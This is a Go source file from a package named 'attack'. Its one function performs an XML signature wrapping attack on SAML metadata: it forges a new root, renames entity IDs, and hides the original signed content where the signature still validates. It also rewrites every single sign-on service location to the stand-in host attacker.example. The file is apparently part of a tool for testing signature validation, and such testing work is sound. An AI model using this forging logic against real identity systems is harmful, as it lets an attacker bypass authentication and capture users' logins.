package attack

// wrapRoot makes a forged group the root, with an ID. The second word says whether
// the Signature goes to the forged root, as its first child, or stays in the original;
// the third, where in the forged root the original is.
func wrapRoot(d *draft, a []string) {
	original, signature := d.tree.Root(), d.sig.el
	forged := without(original)
	forged.CreateAttr("ID", a[0])
	for _, entity := range forged.SelectElements("EntityDescriptor") {
		entity.CreateAttr("ID", "_forged"+entity.SelectAttrValue("ID", ""))
		for _, service := range entity.FindElements("./IDPSSODescriptor/SingleSignOnService") {
			service.CreateAttr("Location", "https://attacker.example/sso")
		}
	}
	d.tree.SetRoot(forged)
	if a[1] == "signature-first" {
		forged.InsertChildAt(0, detach(signature))
	}
	switch a[2] {
	case "extensions":
		extensions := node("md:Extensions")
		insertBefore(d.find("EntityDescriptor"), extensions)
		extensions.AddChild(original)
	case "object":
		child(signature, "ds:Object").AddChild(original)
	default:
		d.find(a[2]).AddChild(original)
	}
}
